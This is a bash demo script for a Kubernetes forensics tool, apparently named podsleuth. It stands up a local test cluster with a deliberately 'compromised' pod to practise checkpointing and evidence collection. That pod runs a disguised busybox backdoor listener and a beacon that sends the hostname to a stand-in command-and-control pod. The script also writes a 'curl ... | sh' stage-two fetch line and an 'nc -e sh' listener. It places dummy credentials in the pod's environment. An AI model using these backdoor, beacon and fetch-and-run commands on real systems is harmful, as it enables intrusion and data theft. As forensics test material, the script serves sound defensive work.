#!/bin/bash
# `make demo`: the e2e suite's real single-node cluster (test/e2e/cluster.sh) with demo workloads
# in two namespaces, one of them behaving like a compromised pod:
#   shop/web            busybox httpd serving a page
#   shop/worker         a loop writing order lines
#   shop/c2             a listener standing in for an attacker's command-and-control server
#                       (cluster-local: the pod network on this machine's bridge, nothing leaves it)
#   payments/payments-api   the compromised pod: secrets in its environment, a busybox copy dropped
#                       under /tmp/.x and run from there as a backdoor listener (:31337) and as a
#                       beacon that connects to shop/c2 every 5 s and sends the host name
# Usage: demo.sh up|down|kubeconfig|env|status
set -euo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
export PODSLEUTH_CACHE=${PODSLEUTH_CACHE:-$HOME/.cache/podsleuth-dev}
K=${PODSLEUTH_K8S_BIN:-$PODSLEUTH_CACHE/k8s/bin}/kubectl

api_apply() { "$K" apply -f - >/dev/null; }

up() {
  "$HERE/cluster.sh" up
  eval "$("$HERE/cluster.sh" env)"
  [ -x "$K" ] || { echo "kubectl missing in $(dirname "$K"): run test/setup/k8s.sh" >&2; exit 1; }
  local ns
  for ns in shop payments; do
    "$K" get ns $ns >/dev/null 2>&1 || "$K" create ns $ns >/dev/null
    "$K" -n $ns get sa default >/dev/null 2>&1 || "$K" -n $ns create sa default >/dev/null
  done
  pod() { # ns name labels command [env-yaml]
    api_apply <<EOT
apiVersion: v1
kind: Pod
metadata: {name: $2, namespace: $1, labels: {$3}}
spec:
  nodeName: $PODSLEUTH_TEST_NODE
  terminationGracePeriodSeconds: 0
  automountServiceAccountToken: false
  containers:
  - name: app
    image: $PODSLEUTH_TEST_IMAGE
    imagePullPolicy: Never
    command: [sh, -c, '$4']
    env: ${5:-[]}
EOT
  }
  pod shop web "app: web, tier: frontend" 'mkdir -p /tmp/www; echo "<h1>shop</h1>" > /tmp/www/index.html; exec httpd -f -p 8080 -h /tmp/www'
  pod shop worker "app: worker" 'i=0; while true; do i=$((i+1)); echo "order $i" >> /tmp/orders.log; sleep 2; done'
  pod shop c2 "app: c2" 'while true; do nc -l -p 4444 -e sh -c "cat > /dev/null"; done'
  "$K" -n shop wait --for=condition=Ready pod/c2 pod/web pod/worker --timeout=90s >/dev/null
  local c2ip; c2ip=$("$K" -n shop get pod c2 -o jsonpath='{.status.podIP}')
  pod payments payments-api "app: payments-api, tier: backend" \
    'mkdir -p /tmp/.x; cp /bin/busybox /tmp/.x/nc; cp /bin/busybox /tmp/.x/httpd; echo "curl -s http://$C2/stage2 | sh" > /tmp/.x/stage1.sh; /tmp/.x/httpd -f -p 31337 -h /tmp & while true; do hostname | /tmp/.x/nc -w 1 $C2 4444; sleep 5; done' \
    "[{name: DB_PASSWORD, value: 'S3cr3t-p4ym3nts-db'}, {name: AWS_ACCESS_KEY_ID, value: AKIAIOSFODNN7EXAMPLE}, {name: AWS_SECRET_ACCESS_KEY, value: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY}, {name: C2, value: '$c2ip'}]"
  "$K" -n payments wait --for=condition=Ready pod/payments-api --timeout=90s >/dev/null
  cat <<EOT

podsleuth demo is up.
  namespaces shop (web, worker, c2) and payments (payments-api: the compromised pod)
Try:
  eval "\$(test/e2e/demo.sh env)"    # KUBECONFIG, and this kubelet's checkpoint directory
  podsleuth preflight payments/payments-api
  podsleuth checkpoint payments/payments-api --pull
  podsleuth evidence list
  podsleuth                         # the workbench: browse, checkpoint, pull, analyse
Stop with: make demo-down
EOT
}

case ${1:-} in
  up) up ;;
  down) "$HERE/cluster.sh" down ;;
  kubeconfig) "$HERE/cluster.sh" kubeconfig ;;
  env) # what podsleuth needs to know about the demo cluster
    eval "$("$HERE/cluster.sh" env)"
    echo "export KUBECONFIG=$KUBECONFIG"
    # this kubelet's root is not /var/lib/kubelet: the collector is prestarted in the right place
    echo "export PODSLEUTH_CLUSTER_KUBELET_CHECKPOINT_DIR=$PODSLEUTH_TEST_CHECKPOINT_DIR" ;;
  status) "$HERE/cluster.sh" status; "$K" --kubeconfig "$("$HERE/cluster.sh" kubeconfig)" get pods -n shop -o wide; "$K" --kubeconfig "$("$HERE/cluster.sh" kubeconfig)" get pods -n payments -o wide ;;
  *) echo "usage: $0 up|down|kubeconfig|env|status" >&2; exit 2 ;;
esac
